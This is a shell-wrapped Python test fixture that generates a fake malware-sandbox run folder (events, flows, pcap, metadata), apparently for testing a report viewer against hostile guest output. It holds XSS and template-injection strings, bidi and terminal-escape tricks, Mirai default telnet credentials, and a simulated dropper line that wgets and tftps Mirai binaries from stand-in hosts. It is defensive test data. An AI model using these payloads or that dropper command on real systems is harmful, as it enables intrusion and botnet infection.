#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# A run's folder with something of everything, told by a guest that would like to own the reader.
# usage: hostile_run.sh FOLDER [plain]       plain: the same from a guest that behaves, for pictures

set -e
mkdir -p "$1"
exec python3 - "$@" <<'END'
import json, os, random, struct, sys

folder = sys.argv[1]
base = 1795543200		# 2026-11-24T18:00:00
random.seed(5)

def stamp(t):
    import time
    return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(base + t)) + '.%06d+0000' % int(t % 1 * 1e6)

events = open(folder + '/events.jsonl', 'w')
flows = open(folder + '/flows.jsonl', 'w')
GUEST = '192.168.1.100'

def event(t, kind, dest, port, proto, server, body):
    events.write(json.dumps({'timestamp': stamp(t), 'flow_id': 1, 'in_iface': 'tap0', 'event_type': kind, 'src_ip': GUEST,
        'src_port': 40000, 'dest_ip': dest, 'dest_port': port, 'proto': proto, 'server': {'name': server, 'ip': '198.18.0.1',
        'port': port}, 'contained': True, kind: body}) + '\n')

def flow(t, end, sport, dest, port, proto, server, out, back, length=60, src=GUEST):
    flows.write(json.dumps({'timestamp': stamp(end), 'flow_id': 1, 'in_iface': 'tap0', 'event_type': 'flow', 'src_ip': src,
        'src_port': sport, 'dest_ip': dest, 'dest_port': port, 'proto': proto, 'server': {'name': server}, 'contained': True,
        'flow': {'pkts_toserver': out, 'pkts_toclient': back, 'bytes_toserver': out * length, 'bytes_toclient': back * 60,
        'start': stamp(t), 'end': stamp(end)}}) + '\n')

evil = ['<script>owned=1</script>.example', '"><img src=x onerror=owned=1>.example', '</script><script>owned=1</script>.example',
    'abc\u202egnp.exe.example', '\u2066x\u2069\u200b\ufeff.example', 'a\x1b[2J\x00b.example', '<!--<script>.example',
    '{{constructor.constructor("owned=1")()}}.example', 'javascript:owned=1//.example', 'Z' + '\u0301' * 400 + '.example',
    '\u2028owned=1\u2029.example', '&lt;b&gt;&#x3c;.example', '\U000e0041\U0010ffff.example']
if len(sys.argv) > 2:
    evil = ['cnc.example', 'bins.example', 'update.example', 'tracker.example'] + ['node%d.example' % i for i in range(9)]
for i, name in enumerate(evil * 2 + ['host%d.example' % i for i in range(60)]):
    event(1 + i * .05, 'dns', '8.8.8.8', 53, 'UDP', 'dns', {'version': 2, 'type': 'answer', 'rrname': name, 'rrtype': 'A', 'rcode': 'NOERROR',
        'answers': [{'rrname': name, 'rrtype': 'A', 'ttl': 60, 'rdata': '172.1.0.%d' % (i % 200)}]})
    flow(1, 2, 40000 + i, '8.8.8.8', 53, 'UDP', 'dns', 1, 1)
long = 'bins/mirai.mips' if len(sys.argv) > 2 else 'A' * (200 << 10)
event(5, 'http', '172.1.0.0', 80, 'TCP', 'http', {'hostname': evil[0], 'url': '/' + long, 'http_user_agent': evil[1],
    'http_method': 'GET', 'protocol': 'HTTP/1.1', 'status': 200, 'length': 57, 'request_body_bytes': 0})
event(5.1, 'http', '172.1.0.1', 443, 'TCP', 'https', {'hostname': 'up.example', 'url': '/gate.php', 'http_user_agent': 'x',
    'http_method': 'POST', 'status': 200, 'length': 2, 'request_body_bytes': 4096, 'request_sha256': 'ab' * 32})
event(5.2, 'fileinfo', '172.1.0.1', 443, 'TCP', 'https', {'app_proto': 'http', 'filename': 'passwd' if len(sys.argv) > 2 else '../../<b>' + evil[3], 'size': 4096,
    'sha256': 'ab' * 32, 'stored': True})
event(5.3, 'tls', '172.1.0.1', 443, 'TCP', 'https', {'sni': evil[1], 'version': 'TLS 1.3', 'ja3': {'hash': 'cd' * 16},
    'ja4': 't13d1516h2_8daaf6152771_02713d6af862'})
event(6, 'smtp', '172.1.0.9', 25, 'TCP', 'smtp', {'kind': 'mail', 'from': evil[0], 'to': [evil[3]]})
flow(5, 6, 50000, '172.1.0.0', 80, 'TCP', 'http', 6, 5)
event(8, 'cnc', '172.1.0.2', 23, 'TCP', 'cnc', {'kind': 'register', 'family': 'mirai', 'id': evil[0], 'raw': '0000000100'})
targets = [('udp', '1.2.3.4', 10), ('syn', '1.2.3.5', 14)]
for vector, target, at in targets:
    event(at, 'cnc', '172.1.0.2', 23, 'TCP', 'cnc', {'kind': 'command', 'family': 'mirai', 'raw': '000e0000000500010102030420' + '00',
        'command': {'vector': 0, 'vector_name': vector, 'duration': 3, 'targets': [target + '/32'], 'options': {'len': '512'} if len(sys.argv) > 2 else {'len': '512',
        'domain': evil[2]}}})
event(30, 'cnc', '172.1.0.2', 23, 'TCP', 'cnc', {'kind': 'closed', 'keepalives': 9})
flow(8, 30, 50001, '172.1.0.2', 23, 'TCP', 'cnc', 30, 25)
# what the capture has of the attacks
def ip(proto, src, dst, body, ident, ttl=64):
    return struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(body), ident, 0, ttl, proto, 0, bytes(src), bytes(dst)) + body
with open(folder + '/capture.pcap', 'wb') as out:
    out.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
    packets = []
    for i in range(3000):
        packets.append((10.2 + i / 1000 + random.random() / 100, ip(17, [192, 168, 1, 100], [1, 2, 3, 4],
            struct.pack('>HHHH', random.randrange(1, 65536), random.randrange(1, 65536), 520, 0) + random.randbytes(512), random.randrange(65536))))
        packets.append((14.2 + i / 1000, ip(6, [random.randrange(1, 224), 1, 1, i & 255], [1, 2, 3, 5], struct.pack('>HHIIBBHHH',
            random.randrange(1, 65536), 80, random.getrandbits(32), 0, 0x50, 2, 65535, 0, 0), random.randrange(65536))))
    for t, packet in sorted(packets):
        frame = b'\2\0\0\0\0\1\2\0\0\0\0\2\x08\0' + packet
        out.write(struct.pack('<IIII', base + int(t), int(t % 1 * 1e6), len(frame), len(frame)) + frame)
for i in range(60):
    flow(10.2, 13.2, 1024 + i, '1.2.3.4', 7 + i, 'UDP', 'sink', 50, 0, 540)
    flow(14.2, 17.2, 1024 + i, '1.2.3.5', 80, 'TCP', 'sink', 50, 0, 40, '%d.1.1.1' % (i + 1))
users = [('root', 'vizxv'), ('admin', 'admin'), ('root', evil[0]), (evil[3], '1234'), ('support', 'support') if len(sys.argv) > 2 else ('\x1b[31mroot', 'x')]
for i in range(40):
    host = '94.166.%d.54' % i
    for j, (user, password) in enumerate(users[:1 + i % 5]):
        event(18 + i * .2 + j * .02, 'telnet', host, 23, 'TCP', 'telnet', {'kind': 'login', 'session': i, 'username': user,
            'password': password, 'success': j == i % 5, 'attempt': j + 1})
    for j, command in enumerate(['enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI',
            'cd /tmp; wget http://172.1.0.7/bins/mirai.mips -O x; tftp -g -r mirai.arm 172.1.0.8', '/bin/busybox ECCHI' if len(sys.argv) > 2 else '<script>owned=1</script>\x1b]0;x\x07\u202e']):
        event(18.1 + i * .2 + j * .01, 'telnet', host, 23, 'TCP', 'telnet', {'kind': 'command', 'session': i, 'command': command})
    flow(18 + i * .2, 19 + i * .2, 52000 + i, host, 23, 'TCP', 'telnet', 20, 20)
    event(19 + i * .2, 'report', '203.0.113.48', 48101, 'TCP', 'report', {'address': host, 'port': 23, 'username': users[i % 5][0],
        'password': users[i % 5][1], 'raw': '00'})
for port, text in ((6667, b'NICK guest\r\nUSER guest 8 * :guest\r\n'  if len(sys.argv) > 2 else b'NICK <script>owned=1</script>\r\n'), (4444, bytes(range(256)))):
    event(28, 'sink', '198.51.100.7', port, 'TCP', 'sink', {'kind': 'summary', 'bytes': len(text), 'packets': 1,
        'first_bytes': text.hex(), 'first_text': text.decode('latin1')})
    flow(28, 29, 53000 + port, '198.51.100.7', port, 'TCP', 'sink', 3, 2)
events.write('broken <script>owned=1</script>\n')
events.write('{"event_type":"dns","dns":{"rrname":"' + 'B' * (1 << 20) + '"}}\n')
json.dump({'start': stamp(0), 'end': stamp(31), 'seconds': 31.0, 'bridge': 'sink0', 'tap': 'sink0-t0', 'command': ['qemu-system-mips', '-netdev', 'tap,ifname=sink0-t0'] if len(sys.argv) > 2 else ['qemu', evil[0]],
    'servers': [], 'servers_ended_early': [] if len(sys.argv) > 2 else [evil[0]], 'capture': {'dropped': 3}, 'flows': {}, 'exit_status': 0}, open(folder + '/run.json', 'w'))
json.dump({'drop_no_rule': 5, 'drop_ip_header': 1}, open(folder + '/stats.json', 'w'))
END
